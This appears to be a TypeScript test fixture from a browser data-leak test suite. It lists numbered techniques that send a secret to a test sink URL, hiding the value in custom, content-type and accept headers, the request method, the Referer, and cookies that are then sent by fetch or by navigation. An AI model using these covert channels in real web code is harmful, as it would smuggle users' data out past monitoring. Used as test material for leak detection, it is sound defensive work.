import { type Attack, row, type Secret, variant } from '../attack.ts';

function setCookie(secret: Secret): void {
  // Only this run's addresses see it.
  // biome-ignore lint/suspicious/noDocumentCookie: the attack is this very setter
  document.cookie = `note=${secret.value}; path=${new URL(secret.sink).pathname}`;
}

/** Text that rides in a header. */
export const HEADERS: readonly Attack[] = [
  row('42', 'custom request header', (secret) => fetch(`${secret.sink}header`, { headers: { 'x-note': secret.value } })),
  variant('42b', 'custom header of an XHR with a body', (secret) => {
    const request = new XMLHttpRequest();
    request.open('POST', `${secret.sink}header`);
    request.setRequestHeader('x-note', secret.value);
    request.send('{}');
  }),
  row('76', 'content-type header', (secret) =>
    fetch(`${secret.sink}header`, { method: 'POST', headers: { 'content-type': `text/plain; note=${secret.value}` }, body: 'none' }),
  ),
  row(
    '86',
    'POST without a body, value that nobody wrote in the query',
    (secret) => fetch(`${secret.sink}post?q=${encodeURIComponent(secret.text)}`, { method: 'POST' }),
    { unwritten: true },
  ),
  variant('76b', 'accept header', (secret) => fetch(`${secret.sink}header`, { headers: { accept: `text/${secret.value}` } })),
  variant('76c', 'accept header of an XHR', (secret) => {
    const request = new XMLHttpRequest();
    request.open('GET', `${secret.sink}header`);
    request.setRequestHeader('accept', `text/${secret.value}`);
    request.send();
  }),
  row('77', 'value as the method of a request', (secret) => fetch(`${secret.sink}method`, { method: secret.value })),
  row('78', 'Referer, by the referrer of fetch', (secret) =>
    fetch(`${secret.sink}referer`, { referrer: `/attacks?q=${secret.value}`, referrerPolicy: 'unsafe-url' }),
  ),
  variant('78b', 'Referer, by history.replaceState', (secret) => {
    history.replaceState(null, '', `/attacks?q=${secret.value}`);
    return fetch(`${secret.sink}referer`);
  }),
  variant('60c', 'cookieStore.set, then fetch', async (secret) => {
    const { cookieStore } = window as unknown as { cookieStore: { set(cookie: object): Promise<void> } };
    await cookieStore.set({ name: 'note', value: secret.value, path: new URL(secret.sink).pathname.slice(0, -1) });
    setTimeout(() => void fetch(`${secret.sink}cookie`), 300);
  }),
  row('60', 'cookie, then fetch', (secret) => {
    setCookie(secret);
    setTimeout(() => void fetch(`${secret.sink}cookie`), 300);
  }),
  row('60b', 'cookie, then navigation', (secret) => {
    setCookie(secret);
    setTimeout(() => {
      location.href = `${secret.sink}page`;
    }, 300);
  }),
];
